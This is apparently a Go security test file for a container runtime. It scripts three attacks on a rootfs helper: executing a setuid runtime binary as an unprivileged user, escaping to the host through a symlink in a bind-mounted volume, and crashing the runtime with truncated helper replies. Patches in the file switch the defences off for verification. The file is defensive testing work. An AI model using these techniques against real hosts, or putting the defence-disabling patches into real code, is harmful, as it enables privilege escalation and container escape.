package attack

import (
	"os"
	"os/exec"
	"runtime"
	"strings"
	"syscall"

	"golang.org/x/sys/unix"
)

// The helper of rt, "rt-rootfs": who executes it, and what a container has it do.

func init() { add(attacksOnHelpers) }

var attacksOnHelpers = []attack{
	{
		name: "rt-rootfs", what: "a user executes an rt with set-user-ID as a helper, in a directory of root's",
		try: func(s *stage) string {
			null, err := os.Open("/dev/null")
			must(s.t, err)
			defer null.Close()
			own := os.NewFile(uintptr(s.socketOf(nobody)), "socket")
			defer own.Close()
			for _, socket := range []*os.File{own, null} {
				if won := s.asHelper(socket); won != "" {
					return won
				}
			}
			return ""
		},
		without: []way{{patches: []patch{{
			"libcontainer/rootfs/helper.go", "if !ok || !startedByRt() {", "if !ok || !OFF && !startedByRt() {",
		}}}},
	},
	{
		name: "rt-rootfs", what: "a link in a volume, where a helper makes a mount point, leads to the host",
		try: func(s *stage) string {
			must(s.t, os.Mkdir(s.dir+"/volume", 0o755))
			must(s.t, os.Symlink(s.victim+"/folder", s.dir+"/volume/way"))
			s.link("volume/way", "link")
			s.Config.mount("/volume", "bind", s.dir+"/volume", "rbind")
			s.Config.mount("/link/made/here", "tmpfs", "tmpfs", "mode=755")
			s.run("true")
			return s.harmed()
		},
		without: []way{{patches: []patch{{ // the helper has no environment of its own
			"libcontainer/rootfs/helper.go", "		Env:   []string{},\n",
			"		Env:   map[bool][]string{true: os.Environ(), false: {}}[OFF],\n",
		}, {
			"libcontainer/rootfs/helper.go", "return sys.MakeInRoot(t.from,",
			"if OFF {\nreturn os.MkdirAll(\"/proc/self/fd/4/\"+t.path, 0o755)\n}\nreturn sys.MakeInRoot(t.from,",
		}}}},
	},
	{
		name: "rt-rootfs", what: "a hostile helper answers with less than a result, and rt dies in its work",
		try: func(s *stage) string {
			must(s.t, os.Mkdir(s.dir+"/volume", 0o755))
			s.link("volume/way", "link")
			s.Config.mount("/volume", "bind", s.dir+"/volume", "rbind")
			s.Config.mount("/link/made/here", "tmpfs", "tmpfs", "mode=755")
			s.bare = true
			s.env = append(s.env, "RT_ATTACK_HELPER=hostile")
			out, status := s.run("true")
			if strings.Contains(out, "goroutine ") {
				return "rt has panicked"
			}
			if status == 0 {
				s.t.Fatal("no helper was asked: " + out)
			}
			return ""
		},
		without: []way{{patches: []patch{{ // a helper that has been taken over, with the defence and without it
			"libcontainer/rootfs/helper.go",
			"	_ = unix.Send(helperSocket, formatResult(text, err), unix.MSG_NOSIGNAL)\n",
			"	answer := formatResult(text, err)\n" +
				"	if env, _ := os.ReadFile(\"/proc/\" + strconv.Itoa(os.Getppid()) + \"/environ\"); " +
				"strings.Contains(string(env), \"RT_ATTACK_HELPER=hostile\") {\n" +
				"		answer = []byte{result}\n	}\n" +
				"	_ = unix.Send(helperSocket, answer, unix.MSG_NOSIGNAL)\n",
		}, {
			"libcontainer/rootfs/helper.go", "	if len(f) != count {\n		return \"\", unix.EPROTO\n",
			"	if len(f) != count && !OFF {\n		return \"\", unix.EPROTO\n",
		}}}},
	},
}

// nobody is an ordinary user.
const nobody = 65534

// socketOf returns a socket that a thread of this process has made as another user.
func (s *stage) socketOf(user uintptr) int {
	made := make(chan int)
	go func() {
		runtime.LockOSThread() // and not unlocked: the thread ends with the goroutine
		pair := [2]int{-1, -1}
		if _, _, errno := unix.RawSyscall(unix.SYS_SETRESUID, user, user, user); errno == 0 {
			pair, _ = unix.Socketpair(unix.AF_UNIX, unix.SOCK_SEQPACKET|unix.SOCK_CLOEXEC, 0)
		}
		_ = unix.Close(pair[1])
		made <- pair[0]
	}()
	socket := <-made
	if socket < 0 {
		s.t.Fatal("no socket of another user")
	}
	return socket
}

// asHelper has an ordinary user execute an rt that has set-user-ID, as a helper that makes a directory in the victim's.
func (s *stage) asHelper(socket *os.File) string {
	binary := plainRT
	if s.way != nil {
		binary = bareRT
	}
	text, err := os.ReadFile(binary)
	must(s.t, err)
	raised := s.dir + "/rt-raised"
	must(s.t, os.WriteFile(raised, text, 0o755))
	must(s.t, os.Chmod(raised, 0o755|os.ModeSetuid))
	victim, err := os.Open(s.victim)
	must(s.t, err)
	defer victim.Close()
	cmd := exec.Command(raised)
	cmd.Args = []string{"rt-rootfs", "directory", "made", "0", "0", "false"}
	cmd.Env = append(os.Environ(), s.way.environment(s, "")...)
	cmd.ExtraFiles = []*os.File{socket, victim, victim}
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: nobody, Gid: nobody}}
	if out, err := cmd.CombinedOutput(); err != nil {
		s.t.Logf("rt-rootfs: %v: %s", err, out)
	}
	return s.harmed()
}
